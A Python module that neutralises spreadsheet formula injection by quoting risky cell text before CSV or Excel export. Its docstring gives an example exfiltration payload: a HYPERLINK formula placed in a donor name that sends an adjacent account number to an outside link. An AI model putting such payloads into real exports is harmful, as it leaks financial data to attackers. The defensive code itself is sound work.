"""The one place that makes a value safe to write into a spreadsheet cell, CSV or Excel (formula injection,
CWE-1236).

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and a leading tab or
carriage return can hide one: a donor named `=HYPERLINK("http://…"&C7,"x")` in a bank file would send the
next column, a full account number, to whoever owns the link when a clerk clicks it. Every CSV and Excel
writer passes its values through `safe_cell` or `safe_row` (or writes with `csv_writer`).

OWASP's rule: such a text gets a single quote in front, so it is shown as text and never evaluated. Numbers
are not text: an `int`, `Decimal` or `float` stays a number (a negative amount is a negative number, not a
formula), and so does a text that is nothing but a decimal number (`-12.50` in a CSV money column). Dates
and empty cells pass unchanged. The quote is added once: a text that already starts with it is safe."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """`value`, or, for a text that a spreadsheet would read as a formula, the same text after a quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """`csv.writer` whose rows go through `safe_row` first."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)
